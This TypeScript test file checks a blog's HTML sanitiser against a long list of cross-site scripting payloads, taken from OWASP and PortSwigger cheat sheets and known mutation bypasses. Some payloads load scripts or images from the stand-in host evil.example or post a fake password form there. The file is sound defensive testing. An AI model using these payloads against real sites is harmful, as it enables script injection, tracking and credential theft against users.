import { type DefaultTreeAdapterTypes, parseFragment } from "parse5";
import { describe, expect, it } from "vitest";

import { isTooDeep, sanitise, showsSomething, textOf } from "./html.ts";

type Node = DefaultTreeAdapterTypes.ChildNode;
type Element = DefaultTreeAdapterTypes.Element;

const isElement = (node: Node): node is Element => "tagName" in node;
/** As a browser builds them, which is not how the sanitiser reads them. */
const elementsOf = (nodes: Node[]): Element[] =>
  nodes.filter(isElement).flatMap((each) => [each, ...elementsOf(each.childNodes)]);

const TAGS = new Set([
  ...["p", "h2", "h3", "h4", "strong", "em", "s", "u", "code", "pre", "blockquote"],
  ...["ul", "ol", "li", "a", "img", "hr", "br"],
]);
const ATTRIBUTES: Record<string, RegExp> = {
  "a href": /^(https?:\/\/|mailto:|\/(?![/\\]))/i,
  "a rel": /^noopener noreferrer$/,
  "img src": /^\/media\/images\/\w[\w.-]*$/,
  "img alt": /^/,
  "img width": /^\d+$/,
  "img height": /^\d+$/,
  "ol start": /^\d{1,9}$/,
};

/** What a browser would make of it that could run, or ask for something elsewhere. */
const dangersIn = (html: string): string[] =>
  elementsOf(parseFragment(html).childNodes).flatMap(({ tagName, attrs }) => [
    ...(TAGS.has(tagName) ? [] : [tagName]),
    ...attrs
      .filter(({ name, value }) => !ATTRIBUTES[`${tagName} ${name}`]?.test(value))
      .map(({ name, value }) => `${tagName} ${name}=${value}`),
  ]);

/**
 * Sources: OWASP's filter evasion cheat sheet, PortSwigger's cheat sheet, and what got past sanitisers before (mutation
 * through SVG, MathML, noscript, style, comments, tables, and templates).
 */
const ATTACKS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>',
  "<<SCRIPT>alert(1);//\\<</SCRIPT>",
  "<SCRIPT SRC=https://evil.example/x.js?< B >",
  "<SCRIPT SRC=//evil.example/.j>",
  "<script\0>alert(1)</script>",
  "</TITLE><SCRIPT>alert(1);</SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img src=/media/images/a.webp onerror=alert(1)>",
  "<img src=/media/images/a.webp onload=alert(1) style=background:url(//evil.example)>",
  '<img src="javascript:alert(1)">',
  '<img src="https://evil.example/spy.gif">',
  '<img src="//evil.example/spy.gif">',
  '<img src="/\\evil.example/spy.gif">',
  '<img src="/media/images/../../api/authenticate/logout">',
  '<img src="/media/images//evil.example/a.webp">',
  '<img src="https://evil.example/media/images/a.webp">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="/media/images/a.webp" srcset="https://evil.example/a.webp 2x">',
  '<img src="/media/images/a.webp" longdesc="javascript:alert(1)" usemap="#m" crossorigin>',
  '<img """><script>alert("1")</script>">',
  "<img src=`javascript:alert(1)`>",
  "<img src= onmouseover=\"alert('xxs')\">",
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img dynsrc="javascript:alert(1)"><img lowsrc="https://evil.example/a.gif">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://evil.example/x">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https://good.example" target=_blank onclick=alert(1) ping=https://evil.example>x</a>',
  '<a href="https://good.example" rel="opener" id=x name=y class=z style="position:fixed">x</a>',
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)//",
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set attributeName=href to=javascript:alert(1)>",
  "<svg><script>alert&lpar;1&rpar;</script></svg>",
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<math href="javascript:alert(1)">CLICKME</math>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<noembed><img src=x onerror=alert(1)></noembed>",
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<textarea><img src=x onerror=alert(1)></textarea><script>alert(1)</script>",
  "<title><img src=x onerror=alert(1)></title>",
  "<template><img src=x onerror=alert(1)></template>",
  "<option><style></option></select><img src=x onerror=alert(1)></style>",
  "<select><template><option><img src=x onerror=alert(1)></template></select>",
  "<table><td background='https://evil.example/a.gif'><caption onclick=alert(1)>x",
  "<table><tr><td><style><!--</style><img src=x onerror=alert(1)>--></td></tr></table>",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><img src=x onerror=alert(1)>",
  '<? foo="><script>alert(1)</script>">',
  '<! foo="><script>alert(1)</script>">',
  '</ foo="><script>alert(1)</script>">',
  "<%<!--'%><script>alert(1);</script -->",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=javascript:alert(1)></object><embed src=https://evil.example/x.swf>",
  '<applet code="x"></applet><param name=x value=javascript:alert(1)>',
  "<video src=https://evil.example/a.mp4 onerror=alert(1)><source onerror=alert(1)>",
  "<audio src=x onerror=alert(1) autoplay><track src=https://evil.example/a.vtt>",
  "<picture><source srcset=https://evil.example/a.webp><img src=/media/images/a.webp></picture>",
  "<details open ontoggle=alert(1)><summary onfocus=alert(1) tabindex=0>x</summary></details>",
  "<input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button>",
  "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
  "<marquee onstart=alert(1)>x</marquee><blink>x</blink>",
  "<body onload=alert(1)><frameset onload=alert(1)><html manifest=https://evil.example>",
  "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href=https://evil.example/x.css><style>@import'https://evil.example/x';</style>",
  "<style>*{background:url(https://evil.example/a)}</style><p>x</p>",
  '<p style="background:url(https://evil.example/a)">x</p>',
  '<div style="width: expression(alert(1));">x</div>',
  '<p onclick="alert(1)" onmouseover=alert(1) ONANIMATIONSTART=alert(1) style="animation:x">x</p>',
  "<p/onclick=alert(1)>x</p><p\nonclick\n=\nalert(1)>x</p>",
  '<x onclick=alert(1)>x</x><custom-element is="x">y</custom-element>',
  "<xss id=x tabindex=1 onactivate=alert(1)></xss>",
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  "`><script>alert(1)</script>",
  "<a href='https://a.example/\"><img src=x onerror=alert(1)>'>x</a>",
  '<img src="/media/images/a.webp" alt="&quot;><img src=x onerror=alert(1)>">',
  '<img src="/media/images/a.webp" alt="`onerror=alert(1)" width="1\' onerror=\'alert(1)">',
  '<a href="https://x.example/?a=&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
  "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
  "<pre><code>&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>",
  "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "<\u0000img src=x onerror=alert(1)>",
  "<img\fsrc=x\fonerror=alert(1)>",
  "<img/src=x/onerror=alert(1)/>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)>",
  `${"<p".repeat(500)} onclick=alert(1)>`,
  `${"<blockquote>".repeat(600)}<img src=x onerror=alert(1)>`,
  `${"<b>".repeat(600)}<svg><style><img src=x onerror=alert(1)>`,
];

describe("sanitising a blog", () => {
  it.each(ATTACKS)("leaves nothing that runs or asks elsewhere in %j", (attack) => {
    const once = sanitise(attack);
    expect(dangersIn(once)).toEqual([]);
    // What a page makes of it, and what it writes back, stays harmless and the same.
    expect(sanitise(once)).toBe(once);
    for (const around of [`<p>${attack}</p>`, `<ul><li>${attack}`, `<pre><code>${attack}`])
      expect(dangersIn(sanitise(around))).toEqual([]);
  });

  it("would notice what is dangerous", () => {
    for (const attack of ["<img src=x onerror=alert(1)>", "<a href='javascript:alert(1)'>x</a>"])
      expect(dangersIn(attack)).not.toEqual([]);
    expect(dangersIn("<svg><script>alert(1)</script></svg>")).toEqual(["svg", "script"]);
  });

  it("keeps what the editor makes, to the letter", () => {
    const html = [
      "<h2>A heading</h2><h3>Below</h3><h4>Below that</h4>",
      "<p>Some <strong>bold</strong>, <em>leaning</em>, <s>struck</s>, <u>lined</u> <code>code</code></p>",
      "<pre><code>if (a &lt; b &amp;&amp; c &gt; d) {\n  run();\n}</code></pre>",
      "<ul><li><p>One</p></li><li><p>Two</p></li></ul><ol><li><p>Three</p></li></ol>",
      '<ol start="1984"><li><p>A year</p></li></ol>',
      '<blockquote><p>Said "so"</p></blockquote><hr /><p>A<br />B</p>',
      '<p><a href="https://a.example/b?c=d&amp;e" rel="noopener noreferrer">out</a></p>',
      '<p><a href="mailto:a@b.example" rel="noopener noreferrer">mail</a> <a href="/blogs">in</a></p>',
      '<p><img src="/media/images/0b-1.webp" alt="A &lt; B" width="640" height="360" /></p>',
    ].join("");
    expect(sanitise(html)).toBe(html);
  });

  it("says the same in the editor's tags, and drops the rest of them", () => {
    expect(sanitise("<h1>A</h1><b>b</b><i>i</i><del>d</del><div>text</div>")).toBe(
      "<h2>A</h2><strong>b</strong><em>i</em><s>d</s>text",
    );
    expect(sanitise("<p>Before<script>x</script><style>y</style>after")).toBe("<p>Beforeafter</p>");
    expect(sanitise("<a href='javascript:x'>still read</a>")).toBe("<a>still read</a>");
    for (const list of ["ol start='-1'", "ol start='1e9'", "ol start='1234567890'", "ul start='2'"])
      expect(sanitise(`<${list}><li>x</li>`)).toMatch(/^<[ou]l><li>x<\/li><\/[ou]l>$/);
  });

  it("takes no longer for what is made to take long", () => {
    const before = process.cpuUsage();
    for (const piece of [
      "<b>",
      "<p><",
      "<a href='",
      "&#",
      "<!--",
      "</p>",
      "<img src=x ",
      "<li><ul>",
    ])
      expect(dangersIn(sanitise(piece.repeat(200_000 / piece.length)))).toEqual([]);
    expect(process.cpuUsage(before).user).toBeLessThan(10_000_000);
  });

  it.each([
    ["elements in one another", "<b>".repeat(1_001), true],
    ["as many as there may be", `${"<b>".repeat(1_000)}x${"</b>".repeat(1_000)}`, false],
    ["ends of others between them", "<b></i></p>".repeat(1_001), true],
    ["one after another", "<p><b>x</b><i>y</I></p><hr><br>".repeat(5_000), false],
    ["paragraphs and points without an end", "<p>x<ul><li>y<li>z</ul>".repeat(5_000), false],
  ])("is too deep, or not: %s", (_what, html, isDeep) => {
    expect(isTooDeep(html)).toBe(isDeep);
  });

  it("gives its text in one line", () => {
    const html =
      "<h2>One</h2><p>two <em>th</em>ree<br />four</p><ul><li>five</li><li>six</li></ul>\n<pre><code>a &lt; b &amp;&amp;\n c</code></pre>";
    expect(textOf(html)).toBe("One two three four five six a < b && c");
    expect(textOf(sanitise("&amp;lt;b&amp;gt;"))).toBe("&lt;b&gt;");
  });

  it.each([
    ["<p></p>", false],
    ["<p> &nbsp; <br></p><hr>", false],
    ["<script>alert(1)</script>", false],
    ["<img src=https://evil.example/a.gif>", false],
    ["<p>x</p>", true],
    ["<img src=/media/images/a.webp>", true],
  ])("knows whether anything is left of %j: %s", (html, isSomething) => {
    expect(showsSomething(sanitise(html))).toBe(isSomething);
  });
});
